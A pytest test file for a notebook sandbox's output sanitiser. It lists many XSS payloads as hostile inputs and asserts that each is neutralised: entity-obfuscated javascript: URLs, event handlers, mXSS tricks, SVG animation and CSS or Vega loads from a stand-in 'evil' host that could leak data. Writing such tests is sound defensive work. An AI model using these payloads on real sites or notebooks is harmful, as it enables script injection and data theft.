"""session/sanitize.py: output from a container made inert for the browser (issue 13).

Each hostile input is judged on what a browser would see: no element or
attribute that runs code, no URL with a script scheme after the decoding a
renderer does.  Data types pass unchanged.
"""
from __future__ import annotations

import html
import re

import types

import pytest

from sandbox_kernel.session import sanitize
from sandbox_kernel.session.client import Session
from sandbox_kernel.session.exchange import Control, Exchange, Interrupts
from sandbox_kernel.session.outputs import Display
from sandbox_kernel.session.stats import build_stats, footer_html, footer_text

HANDLER = re.compile(r"<[^>]*\son[a-z]+\s*=", re.I)
ACTIVE_TAGS = re.compile(r"<\s*(script|iframe|frame|object|embed|form|base|meta|link|applet|"
                         r"foreignobject|animate|set|template)\b", re.I)


def script_url(text: str) -> bool:
    """A javascript:/vbscript: URL at a URL's start, after entity decoding."""
    return sanitize.has_script_url(text)


def assert_inert(text) -> None:
    if text is None:
        return                            # dropped: nothing reaches the browser
    assert not ACTIVE_TAGS.search(text), text
    assert not HANDLER.search(text), text
    assert not script_url(text), text
    assert not re.search(r"data:text/html", html.unescape(text), re.I), text


def _bundle(data: dict, metadata: dict):
    """((data, metadata), dropped) of sanitize_bundle."""
    clean = sanitize.sanitize_bundle(data, metadata)
    return tuple(clean), clean.dropped


HOSTILE_HTML = {
    "script": "<script>fetch('/api/contents/x', {method: 'PUT'})</script>ok",
    "script mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror mixed case": '<IMG SRC=x OnErRoR="alert(1)">',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg onload": "<svg onload=alert(1)>",
    "body onload": "<body onload=alert(1)>",
    "a javascript": '<a href="javascript:alert(1)">x</a>',
    "a JavaScript mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a entity encoded": '<a href="jav&#x61;script:alert(1)">x</a>',
    "a decimal entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "a entity colon": '<a href="javascript&colon;alert(1)">x</a>',
    "a tab inside": '<a href="java\tscript:alert(1)">x</a>',
    "a leading space": '<a href="  javascript:alert(1)">x</a>',
    "a vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a data html": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "iframe": '<iframe src="/api/contents"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="/api/contents/x" method="post"><button>go</button></form>',
    "formaction": '<button formaction="javascript:alert(1)">x</button>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "link stylesheet": '<link rel="stylesheet" href="http://evil/x.css">',
    "style import": "<style>@import url(http://evil/x.css); b { color: red }</style><b>x</b>",
    "style url": "<style>b { background: url(javascript:alert(1)) }</style><b>x</b>",
    "style escape": r"<style>b { background: \75 rl(x) }</style><b>x</b>",
    "style closes": "<style>b{color:red}</style ><script>alert(1)</script>",
    "style attribute": '<p style="background-image: url(javascript:alert(1)); position: fixed">p</p>',
    "mxss math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment": "<!--<img src=x onerror=alert(1)>-->",
    "mathjax href": r"$$\href{javascript:alert(1)}{click}$$",
    "double encoded": '<a href="&amp;#x6a;avascript:alert(1)">x</a>',
    "svg a xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "details ontoggle": "<details open ontoggle=alert(1)>",
    "input autofocus": "<input autofocus onfocus=alert(1)>",
    "video": '<video><source onerror="alert(1)"></video>',
    "leading zeros no semicolon": '<a href="&#0000106avascript:alert(1)">x</a>',
    "control char first": '<a href="\x01javascript:alert(1)">x</a>',
    "entity newline inside": '<a href="java&#x0A;script:alert(1)">x</a>',
    "img srcset": '<img srcset="javascript:alert(1) 1x">',
    "area": '<map><area href="javascript:alert(1)"></map>',
    "xlink in html": '<a xlink:href="javascript:alert(1)">x</a>',
    "marquee": '<marquee onstart=alert(1)>x</marquee>',
    "unclosed attribute": '<img src="x" onerror="alert(1)',
    "null in tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "nested script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "audio onerror": '<audio controls onerror="alert(1)" src="data:audio/wav;base64,AA"></audio>',
    "audio onplay": '<audio autoplay onplay=alert(1)><source src="data:audio/wav;base64,AA"></audio>',
    "source javascript": '<audio><source src="javascript:alert(1)"></audio>',
    "source data html": '<video><source src="data:text/html;base64,PHNjcmlwdD4=" type="text/html"></video>',
    "source data html as audio type": '<audio><source src="data:text/html,<script>alert(1)</script>" type="audio/wav"></audio>',
    "video poster javascript": '<video poster="javascript:alert(1)" controls></video>',
    "progress handler": '<progress max=10 value=3 onclick=alert(1)></progress>',
}


@pytest.mark.parametrize("text", HOSTILE_HTML.values(), ids=HOSTILE_HTML.keys())
def test_hostile_html_is_inert(text):
    assert_inert(sanitize.clean_html(text))


def test_jupyterlab_command_links_are_stripped():
    """JupyterLab runs the command named by data-commandlinker-command on a
    click (a terminal, a deletion): no data-* attribute passes."""
    cleaned = sanitize.clean_html('<button data-commandlinker-command="terminal:create-new" '
                                  'data-commandlinker-args="{}">x</button><b data-x="1">y</b>')
    assert "data-" not in cleaned and "<b>y</b>" in cleaned
    assert "data-" not in sanitize.clean_markdown('<span data-commandlinker-command="x">y</span>')


def test_a_dropped_script_leaves_the_text_around_it():
    assert sanitize.clean_html(HOSTILE_HTML["script"]) == "ok"
    assert sanitize.clean_html('<a href="javascript:alert(1)">x</a>') == '<a rel="noopener noreferrer">x</a>'


HOSTILE_MARKDOWN = {
    "raw script": "# Title\n\n<script>alert(1)</script>\n",
    "raw img onerror": "text <img src=x onerror=alert(1)> more",
    "raw svg onload": "<svg onload=alert(1)></svg>",
    "link": "[click](javascript:alert(1))",
    "link mixed case": "[click](JaVaScRiPt:alert(1))",
    "link entity": "[click](jav&#x61;script:alert(1))",
    "link named entity colon": "[click](javascript&colon;alert(1))",
    "link backslash colon": r"[click](javascript\:alert(1))",
    "link pointy": "[click](<javascript:alert(1)>)",
    "link with title": '[click](javascript:alert(1) "title")',
    "image": "![x](javascript:alert(1))",
    "reference": "[click][r]\n\n[r]: javascript:alert(1)\n",
    "reference newline": "[click][r]\n\n[r]:\n  javascript:alert(1)\n",
    "autolink": "<javascript:alert(1)>",
    "html link": '<a href="javascript:alert(1)">x</a>',
    "vbscript": "[x](vbscript:msgbox(1))",
    "mathjax href": r"$\href{javascript:alert(1)}{x}$",
    "iframe": '<iframe src="/lab"></iframe>',
    "details": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "link decimal entity": "[x](&#106;avascript:alert(1))",
    "link tab entity": "[x](java&#x09;script:alert(1))",
    "link colon entity": "[x](javascript&#58;alert(1))",
    "link leading space": "[x]( javascript:alert(1))",
    "link in a list": "* [x](javascript:alert(1))",
    "link in a table": "| a |\n|---|\n| [x](javascript:alert(1)) |",
    "nested brackets": "[[x]](javascript:alert(1))",
    "html comment": "<!-- x --><img src=x onerror=alert(1)>",
    "unclosed comment": "<!-- <img src=x onerror=alert(1)>",
    "script in math": "$<script>alert(1)</script>$",
}


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
def test_hostile_markdown_is_inert(text):
    assert_inert(sanitize.clean_markdown(text))


def test_markdown_stays_markdown():
    text = ("# Results\n\n> a quote & more\n\n* one\n* two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "```python\nif a < b and c > d:\n    pass\n```\n\n[docs](https://example.org) **bold** $x^2$\n")
    assert sanitize.clean_markdown(text) == text


def test_markdown_keeps_safe_raw_html():
    assert sanitize.clean_markdown("a <b>bold</b> c") == "a <b>bold</b> c"
    assert sanitize.clean_markdown("a<b2 and x < y") == "a&lt;b2 and x < y"


def test_markdown_math_keeps_its_less_than_as_tex():
    assert sanitize.clean_markdown("$x<y$ and $$a<b$$") == r"$x\lt y$ and $$a\lt b$$"
    assert_inert(sanitize.clean_markdown("$a<img src=x onerror=alert(1)>$"))


HOSTILE_SVG = {
    "script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "onload": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1"/></svg>',
    "handler on child": '<svg xmlns="http://www.w3.org/2000/svg"><rect onclick="alert(1)"/></svg>',
    "a xlink href": ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
                     '<a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    "use external": ('<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml,'
                     '&lt;svg onload=alert(1)&gt;"/></svg>'),
    "set href": ('<svg xmlns="http://www.w3.org/2000/svg"><a><set attributeName="href" '
                 'to="javascript:alert(1)"/><text>x</text></a></svg>'),
    "animate": ('<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(1)" '
                'attributeName="x" dur="1s"/></svg>'),
    "foreignObject": ('<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body '
                      'xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/>'
                      '</body></foreignObject></svg>'),
    "style url": ('<svg xmlns="http://www.w3.org/2000/svg"><style>rect { fill: url(http://evil/x) }'
                  '</style><rect style="fill: url(javascript:alert(1))"/></svg>'),
    "entity bomb": ('<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
                    '<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>'),
    "not xml": "<svg onload=alert(1)>",
    "html inside": '<html><body onload="alert(1)"></body></html>',
}


@pytest.mark.parametrize("text", HOSTILE_SVG.values(), ids=HOSTILE_SVG.keys())
def test_hostile_svg_is_inert(text):
    cleaned = sanitize.clean_svg(text)
    assert_inert(cleaned)
    assert cleaned is None or "http://evil" not in cleaned


def test_matplotlib_svg_keeps_its_drawing():
    """The shape of matplotlib's SVG: local references, clip paths, style."""
    svg = ('<?xml version="1.0" encoding="utf-8" standalone="no"?>\n'
           '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n'
           '  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
           '<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="144pt" height="108pt" '
           'viewBox="0 0 144 108" xmlns="http://www.w3.org/2000/svg" version="1.1">'
           '<defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style>'
           '<clipPath id="p1"><rect x="18" y="12" width="111" height="83"/></clipPath>'
           '<path id="m1" d="M 0 0 L 0 3.5" style="stroke: #000000; stroke-width: 0.8"/></defs>'
           '<g id="figure_1"><path d="M 18 96 L 129 12" clip-path="url(#p1)" '
           'style="fill: none; stroke: #1f77b4; stroke-width: 1.5"/>'
           '<use xlink:href="#m1" x="23" y="96"/><text x="1" y="2">x &lt; y</text></g></svg>')
    cleaned = sanitize.clean_svg(svg)
    for kept in ('clip-path="url(#p1)"', 'xlink:href="#m1"', 'id="p1"', "stroke: #1f77b4",
                 "stroke-linejoin: round", 'viewBox="0 0 144 108"', "x &lt; y"):
        assert kept in cleaned


def test_pandas_table_html_is_kept():
    table = ('<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n'
             '        vertical-align: middle;\n    }\n\n    .dataframe thead th {\n'
             '        text-align: right;\n    }\n</style>\n<table border="1" class="dataframe">\n'
             '  <thead>\n    <tr style="text-align: right;">\n      <th></th>\n      <th>a</th>\n'
             '    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th>0</th>\n      <td>x&lt;y</td>\n'
             '    </tr>\n  </tbody>\n</table>\n</div>')
    cleaned = sanitize.clean_html(table)
    assert '<table border="1" class="dataframe">' in cleaned
    assert '<tr style="text-align: right">' in cleaned
    assert "<td>x&lt;y</td>" in cleaned
    assert ".dataframe thead th { text-align: right; }" in cleaned
    assert ".dataframe tbody tr th:only-of-type { vertical-align: middle; }" in cleaned


HOSTILE_CSS = ["body { visibility: hidden }", "* { opacity: 0 }",
               ".jp-Notebook, .sandbox-kernel-stats { color: white }", ":root .x { color: red }"]


@pytest.mark.parametrize("css", HOSTILE_CSS)
def test_style_rules_are_confined_to_their_output(css):
    cleaned = sanitize.clean_html(f"<style>{css}</style><b>x</b>")
    scope = re.match(r'<div class="(sbk-out-scope-[0-9a-f]+)">', cleaned).group(1)
    rules = re.search(r"<style>(.*)</style>", cleaned, re.S).group(1).strip().splitlines()
    for rule in rules:
        selectors = rule.split("{")[0].split(",")
        assert all(part.strip().startswith(f".{scope} ") for part in selectors), rule
    assert cleaned.endswith("<b>x</b></div>")


def test_sibling_combinators_cannot_leave_the_scope():
    assert "color" not in sanitize.clean_html("<style>x ~ .jp-Cell { color: red } "
                                              "y + p { color: red }</style><b>x</b>")


def test_svg_style_rules_are_confined_to_the_svg():
    cleaned = sanitize.clean_svg('<svg xmlns="http://www.w3.org/2000/svg" class="mine">'
                                 '<style>* { fill: red } body { visibility: hidden }</style></svg>')
    scope = re.search(r'class="(sbk-out-scope-[0-9a-f]+)"', cleaned).group(1)
    assert f".{scope} * {{ fill: red; }}" in cleaned and f".{scope} body {{ visibility: hidden; }}" in cleaned
    assert 'class="mine"' not in cleaned


def test_styler_ids_and_their_rules_keep_matching():
    styled = ('<style type="text/css">#T_1_row0_col0 { background-color: #fff7fb; color: #000000; }'
              '</style><table id="T_1"><tr><td id="T_1_row0_col0" class="data">1</td></tr></table>')
    cleaned = sanitize.clean_html(styled)
    assert f"#{sanitize.ID_PREFIX}T_1_row0_col0 {{ background-color: #fff7fb; color: #000000; }}" in cleaned
    assert f'id="{sanitize.ID_PREFIX}T_1_row0_col0"' in cleaned


def test_images_in_html_keep_data_urls_of_images_only():
    png = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert sanitize.clean_html(png) == png
    assert "src" not in sanitize.clean_html('<img src="data:text/html;base64,PHNjcmlwdD4=">')


DATA = {
    "text/plain": "<IPython.core.display.Javascript object>",
    "image/png": "iVBORw0KGgo=",
    "image/jpeg": "/9j/4AAQ",
    "image/gif": "R0lGODlh",
    "image/webp": "UklGRg==",
    "application/json": {"a": [1, 2, {"b": "<script>"}]},
    "application/vnd.vegalite.v5+json": {"mark": "bar", "data": {"values": [{"a": 1}]}},
    "application/vnd.vega.v5+json": {"marks": []},
    "application/vnd.plotly.v1+json": {"data": [{"x": [1], "y": [2]}]},
    sanitize.STATS_MIME: {"session": "default"},
}


@pytest.mark.parametrize("mime", DATA)
def test_data_types_pass_unchanged(mime):
    (data, metadata), dropped = _bundle({mime: DATA[mime]}, {mime: {"width": 3}})
    assert data == {mime: DATA[mime]} and metadata == {mime: {"width": 3}} and dropped == []


VEGA_LOADERS = {
    "data url": {"data": {"url": "/api/contents/secret.txt"}, "mark": "text"},
    "signal url": {"data": [{"name": "d", "url": {"signal": "'http://evil/?' + x"}}]},
    "nested": {"layer": [{"data": {"values": []}}, {"data": {"url": "x.json"}}]},
    "image mark": {"mark": "image", "encoding": {"url": {"field": "img"}}, "data": {"values": []}},
}


@pytest.mark.parametrize("mime", ["application/vnd.vegalite.v5+json", "application/vnd.vega.v5+json"])
@pytest.mark.parametrize("spec", VEGA_LOADERS.values(), ids=VEGA_LOADERS.keys())
def test_vega_specs_that_load_urls_are_dropped(mime, spec):
    (data, _), dropped = _bundle({mime: spec, "text/plain": "chart"}, {})
    assert data == {"text/plain": "chart"} and dropped == [mime]


def test_vega_embed_options_are_taken_out_of_a_spec():
    spec = {"mark": "bar", "data": {"values": [{"a": 1}]},
            "usermeta": {"embedOptions": {"sourceFooter": "<script>x</script>"}}}
    (data, _), dropped = _bundle({"application/vnd.vegalite.v5+json": spec}, {})
    assert data == {"application/vnd.vegalite.v5+json": {"mark": "bar", "data": {"values": [{"a": 1}]}}}
    assert dropped == []


@pytest.mark.parametrize("value", ['x" onerror="alert(1)', "<script>", ["iVBOR"], 7])
def test_an_image_that_is_not_base64_is_dropped(value):
    (data, _), dropped = _bundle({"image/png": value, "text/plain": "fig"}, {})
    assert data == {"text/plain": "fig"} and dropped == ["image/png"]


def test_latex_passes_with_its_script_urls_neutralised():
    math = r"$$\int_0^1 x^2 \, dx = \frac{1}{3}$$"
    data, metadata = sanitize.sanitize_bundle({"text/latex": math}, {})
    assert data == {"text/latex": math} and metadata == {}
    assert_inert(sanitize.sanitize_bundle({"text/latex": r"$\href{javascript:alert(1)}{x}$"}, {})[0]["text/latex"])


ACTIVE = ["application/javascript", "text/javascript", "application/x-javascript",
          "application/ecmascript", "application/vnd.jupyter.widget-view+json",
          "application/vnd.jupyter.widget-state+json", "application/vnd.bokehjs_exec.v0+json",
          "application/vnd.bokehjs_load.v0+json", "application/vnd.holoviews_exec.v0+json",
          "application/vnd.holoviews_load.v0+json", "application/pdf", "text/x-unknown",
          "application/vnd.vegalite.v5+json.evil", "text/html; charset=utf-8"]


@pytest.mark.parametrize("mime", ACTIVE)
def test_active_and_unknown_types_are_dropped(mime):
    (data, metadata), dropped = _bundle(
        {mime: "fetch('/api/contents')", "text/plain": "<object>"}, {mime: {"x": 1}, "isolated": True})
    assert data == {"text/plain": "<object>"} and dropped == [mime]
    assert metadata == {"isolated": True}


def test_a_bundle_with_nothing_left_says_what_was_not_shown():
    (data, _), dropped = _bundle({"application/javascript": "alert(1)"}, {})
    assert dropped == ["application/javascript"]
    assert "application/javascript" in data["text/plain"] and "--trust-output" in data["text/plain"]


def test_markup_that_is_no_string_is_dropped():
    (data, _), dropped = _bundle({"text/html": ["<b>", "x"], "text/plain": "x"}, {})
    assert data == {"text/plain": "x"} and dropped == ["text/html"]


def test_metadata_cannot_claim_the_hosts_marks():
    (_, metadata), _ = _bundle(
        {"text/plain": "x"}, {"sandbox_kernel": {"footer": True}, "text/plain": {"a": 1}})
    assert metadata == {"text/plain": {"a": 1}}


# -- the session's output path -------------------------------------------------


def _exchange(display: Display, on_output) -> Exchange:
    """A cell's exchange as the session makes one, short of a container: the
    transport only numbers the request."""
    transport = types.SimpleNamespace(new_id=lambda: 1)
    control = Control(interrupts=Interrupts(send=lambda: False), kill=lambda: None)
    return Exchange(transport, {"type": "execute"}, control, timeout=None, cell=True,
                    output_limit=1 << 20, display=display, on_output=on_output)


def _pass_through_exchange(trust_output: bool, kind: str, content: dict) -> list:
    """What on_output receives for one frame that the agent sent."""
    seen = []
    _exchange(Display(trust_output), lambda k, c: seen.append((k, c)))._pass_on(kind, content)
    return seen


@pytest.mark.parametrize("kind", ["display_data", "update_display_data", "execute_result"])
def test_every_display_kind_goes_through_the_sanitiser(kind):
    content = {"data": {"application/javascript": "alert(1)", "text/html": "<img src=x onerror=alert(1)>",
                        "text/plain": "x"}, "metadata": {}, "transient": {}}
    if kind == "execute_result":
        content = {"execution_count": 1, "data": content["data"], "metadata": {}}
    seen = _pass_through_exchange(False, kind, content)
    notes = [c["text"] for k, c in seen if k == "stream"]
    (out_kind, out), = [(k, c) for k, c in seen if k != "stream"]
    assert out_kind == kind
    assert out["data"] == {"text/html": '<img src="x">', "text/plain": "x"}
    assert len(notes) == 1 and "application/javascript" in notes[0]


def test_trusted_output_passes_as_it_is():
    content = {"data": {"application/javascript": "alert(1)"}, "metadata": {}, "transient": {}}
    assert _pass_through_exchange(True, "display_data", content) == [("display_data", content)]


def test_the_note_about_dropped_output_comes_once_per_session():
    display = Display(False)                 # one per session, shared by its exchanges
    seen = []
    for _ in range(3):
        _exchange(display, lambda k, c: seen.append(k))._pass_on(
            "display_data", {"data": {"application/javascript": "x"}, "metadata": {},
                             "transient": {}})
    assert seen.count("stream") == 1 and seen.count("display_data") == 3


def test_stream_and_error_text_are_not_touched():
    stream = {"name": "stdout", "text": "<script>alert(1)</script>\x1b[31mred\x1b[0m"}
    assert _pass_through_exchange(False, "stream", stream) == [("stream", stream)]
    error = {"ename": "E", "evalue": "<img onerror=x>", "traceback": ["<script>"]}
    assert _pass_through_exchange(False, "error", error) == [("error", error)]


def test_session_trust_output_keyword_and_attribute():
    session = Session("t", trust_output=True)
    assert session.trust_output is True
    session.trust_output = False
    assert Session("u").trust_output is False


def test_the_stats_say_when_output_is_trusted():
    args = dict(session="s", image="host", limits=_Limits(), execution_count=1, wall=0.1,
                figures={}, status="ok")
    trusted = build_stats(**args, trusted_output=True)
    assert trusted["trusted_output"] is True
    assert "output trusted" in footer_text(trusted)
    assert "<b>output</b> trusted" in footer_html(trusted)
    plain = build_stats(**args)
    assert "trusted_output" not in plain and "trusted" not in footer_text(plain)


class _Limits:
    memory = cpus = pids = timeout = None


# -- IPython's ProgressBar, Audio and Video: kept, inert (issue 25's corpus) ----------------


def test_progress_and_meter_keep_their_numbers_only():
    bar = "<progress style='width:60ex' max='10' value='3'></progress>"
    assert sanitize.clean_html(bar) == '<progress style="width: 60ex" max="10" value="3"></progress>'
    assert sanitize.clean_html('<meter min="0" max="1.5" low=".2" value="1e-1"></meter>') == \
        '<meter min="0" max="1.5" low=".2" value="1e-1"></meter>'
    assert sanitize.clean_html('<progress max="javascript:1" value="x"></progress>') == \
        "<progress></progress>"


def test_audio_and_video_keep_inline_media_of_their_kind_only():
    audio = ('<audio controls="controls" autoplay="autoplay"><source '
             'src="data:audio/wav;base64,UklGRuwA" type="audio/wav">no audio</audio>')
    assert sanitize.clean_html(audio) == audio
    video = '<video controls="" loop="" muted="" src="data:video/mp4;base64,AAAAIGZ0eXA="></video>'
    assert sanitize.clean_html(video) == video


@pytest.mark.parametrize("src", [
    "http://evil.example/track.wav",            # the browser would fetch it: a beacon
    "//evil.example/track.wav", "track.wav", "/files/track.wav",
    "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml;base64,PHN2Zz4=",
    "data:audio/wav,not-base64<script>", "javascript:alert(1)", "data:audio/wav;base64,A<b>",
])
def test_media_sources_that_load_or_are_not_inline_media_are_removed(src):
    for markup in (f'<audio src="{src}"></audio>', f'<video src="{src}"></video>',
                   f'<audio><source src="{src}"></audio>'):
        cleaned = sanitize.clean_html(markup)
        assert "src" not in cleaned and "onerror" not in cleaned, cleaned


def test_media_keep_no_poster_track_or_odd_type():
    cleaned = sanitize.clean_html('<video poster="data:image/png;base64,AA"><track src="x.vtt">'
                                  '<source src="data:video/mp4;base64,AA" type="text/html"></video>')
    assert "poster" not in cleaned and "track" not in cleaned and "text/html" not in cleaned
